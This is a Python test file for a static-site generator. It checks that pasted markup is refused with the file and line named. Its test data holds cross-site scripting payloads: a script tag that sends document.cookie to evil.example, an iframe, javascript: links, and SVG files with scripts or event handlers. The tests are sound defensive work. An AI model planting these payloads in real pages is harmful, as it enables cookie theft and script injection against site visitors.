"""Markup pasted from a partner's e-mail never reaches the site: `vitrine check` and `vitrine build` refuse it,
naming the file and the line, in plain words, with no traceback; the published site stays as it was."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from support.messages import errors_of, line_of
from support.project import Run


def plant(path: Path, text: str) -> int:
    """Append ``text`` to a file; the line it starts on."""
    before = path.read_text(encoding="utf-8")
    path.write_text(before.rstrip("\n") + "\n\n" + text + "\n", encoding="utf-8")
    return before.rstrip("\n").count("\n") + 3


@pytest.mark.parametrize(
    ("planted", "words"),
    [
        ("<script>fetch('https://evil.example/?c='+document.cookie)</script>", "<script>"),
        ('<img src="x.png" onerror="alert(1)">', "event handler (onerror"),
        ("[Brochure](javascript:alert(document.domain))", "javascript:"),
        ('<iframe src="https://evil.example/"></iframe>', "<iframe>"),
    ],
)
def test_markup_in_a_sector_text_is_refused_on_its_line(
    vitrine: Callable[..., Run], minimal_content: Path, planted: str, words: str
) -> None:
    text = minimal_content / "sectors" / "water.en.md"
    line = plant(text, planted)
    run = vitrine("check", "--content", minimal_content)
    assert run.code == 1 and "Traceback" not in run.output
    found = errors_of(run)
    assert [(file, at) for file, at, _ in found] == [("sectors/water.en.md", line)], run.stderr
    assert words in found[0][2]


def test_markup_in_a_yaml_text_is_refused_on_its_line(vitrine: Callable[..., Run], minimal_content: Path) -> None:
    contacts = minimal_content / "contacts.en.yml"
    text = contacts.read_text(encoding="utf-8")
    role = next(line for line in text.splitlines() if "role:" in line)
    contacts.write_text(
        text.replace(role, role.replace('days"', "days <a href='javascript:steal()'>more</a>\""), 1), encoding="utf-8"
    )
    run = vitrine("check", "--content", minimal_content)
    assert run.code == 1
    assert [(file, at) for file, at, _ in errors_of(run)] == [("contacts.en.yml", line_of(contacts, "javascript:"))]


@pytest.mark.parametrize(
    ("drawing", "words"),
    [
        (b'<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script>\n</svg>\n', "a script"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n', "event handler"),
        (b"this is not a drawing at all", "not valid SVG"),
    ],
)
def test_a_dangerous_or_broken_drawing_is_refused(
    vitrine: Callable[..., Run], minimal_content: Path, tmp_path: Path, drawing: bytes, words: str
) -> None:
    (minimal_content / "media" / "marina.svg").write_bytes(drawing)
    out = tmp_path / "site"
    run = vitrine("build", "--without-kit", "--content", minimal_content, "--out", out)
    assert run.code == 1 and "Traceback" not in run.output
    found = errors_of(run)
    assert found and found[0][0] == "media/marina.svg" and words in found[0][2], run.stderr
    assert not out.exists()  # nothing published
